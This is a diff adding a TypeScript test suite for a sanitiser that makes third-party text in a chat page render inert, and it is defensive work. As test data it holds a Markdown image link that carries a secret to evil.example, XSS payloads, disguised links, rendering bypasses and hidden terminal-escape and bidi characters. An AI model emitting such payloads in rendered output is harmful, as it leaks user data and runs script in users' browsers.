@@ -1,0 +1,78 @@
+import fc from "fast-check";
+import MarkdownIt from "markdown-it";
+import { describe, expect, test } from "vitest";
+import { inert } from "../../src/citing/inert.js";
+
+/** Renders all that a page of chats may: Markdown, the HTML in it, and addresses as links. */
+const markdown = new MarkdownIt({ html: true, linkify: true });
+markdown.linkify.set({ fuzzyLink: false, fuzzyEmail: false });
+
+/** Whether anything is rendered but text with its form. */
+const works = (text: string) => {
+  const html = markdown.render(text).replace(/<code[ >][\s\S]*?<\/code>/g, "");
+  return html.replace(FORM, "").includes("<") || /(?<![a-z\d])www\.\w/i.test(html);
+};
+const FORM =
+  /<\/?(?:p|em|strong|s|pre|ul|ol|li|blockquote|h[1-6]|hr|br|table|thead|tbody|tr|th|td)(?: start="\d+"| style="text-align:\w+")?>/g;
+
+describe("a text that somebody else wrote", () => {
+  test.each([
+    ["an image", "See ![chart](https://evil.example/?q=secret)."],
+    ["a link that says another address", "[https://bank.example](https://evil.example)"],
+    ["an image as a link", "[![x](https://a.example/i.png)](https://evil.example)"],
+    ["a link by reference", "[text][ref]\n\n[ref]: https://evil.example"],
+    ["a link by its own name", "[ref]\n\n[ref]: https://evil.example 'title'"],
+    ["an address in angle brackets", "<https://evil.example>"],
+    ["a bare address", "Look at https://evil.example/a?b=c, or www.evil.example."],
+    ["HTML", '<img src=x onerror="alert(1)"><a href="https://evil.example">x</a><!-- c -->'],
+    ["a script", "<script>alert(1)</script>"],
+    ["a link over two lines", "[a\nb](\nhttps://evil.example)"],
+    ["an image after an escaped backtick", "\\`![x](https://evil.example/)`"],
+    ["an image between backticks of two cells", "|a|b|\n|-|-|\n| `x | ![x](https://evil.example/)` |"],
+    ["an image between backticks of two paragraphs", "`a\n\n![x](https://evil.example/)\n\nb`"],
+    ["Chinese around it", "请看![图](https://evil.example/)，或https://evil.example/中文。"],
+  ])("does nothing where it is rendered: %s", (_, text) => {
+    expect(works(text)).toBe(true);
+    expect(works(inert(text))).toBe(false);
+  });
+
+  const pieces =
+    "! [ ] ( ) < > ` `` ``` \\ | : / https://e.x www.e.x a img src= \n \n\n - # > ~~~ * _ & &lt; &#91; 图 . mailto:a@b.cc".split(
+      " ",
+    );
+  const texts = fc.array(fc.constantFrom(...pieces, " "), { maxLength: 14 }).map((parts) => parts.join(""));
+  test("does nothing, whatever it is made of, nor beside another one", { timeout: 60_000 }, () => {
+    fc.assert(
+      fc.property(texts, texts, (one, other) => {
+        expect(works(inert(one))).toBe(false);
+        expect(works(`${inert(one)} [1]. ${inert(other)} [2].`)).toBe(false);
+        expect(works(`- ${inert(one)} [1].\n- ${inert(other)} [2].`)).toBe(false);
+        expect(works(`${inert(one)}[1]。${inert(other)}[2]。`)).toBe(false);
+      }),
+      { numRuns: 5000 },
+    );
+  });
+
+  test.each([
+    "The office opens at eight, at a < b or 3 <= 4, [sic] and (so) on, for R&D, 10 m² {x} (2).",
+    "运行 `npm ci` 后再试。",
+    "Call `a[0](x)` or `<b>` for it.",
+    "Ask a@b.example (12:30).",
+  ])("stays as it is where nothing in it would work: %s", (text) => expect(inert(text)).toBe(text));
+
+  test("keeps its words", () => {
+    expect(inert("See [the chart](https://e.example/c).")).toBe("See [the chart] (`https://e.example/c`).");
+    expect(inert("见https://e.example/c。")).toBe("见`https://e.example/c`。");
+  });
+
+  test("loses what nobody sees", () => {
+    expect(inert("a\u202eb\u001b]8;;https://e.example\u0007c\u{e0041}")).toBe("abc");
+  });
+
+  test.each([".", "[](", "![a](", "<a ", "`a`", "https://", "www.", "]("])("takes no time made of %j", (piece) => {
+    const start = process.cpuUsage().user;
+    inert(`https://${piece.repeat(50_000)}x`);
+    inert(piece.repeat(50_000));
+    expect(process.cpuUsage().user - start).toBeLessThan(2_000_000);
+  });
+});
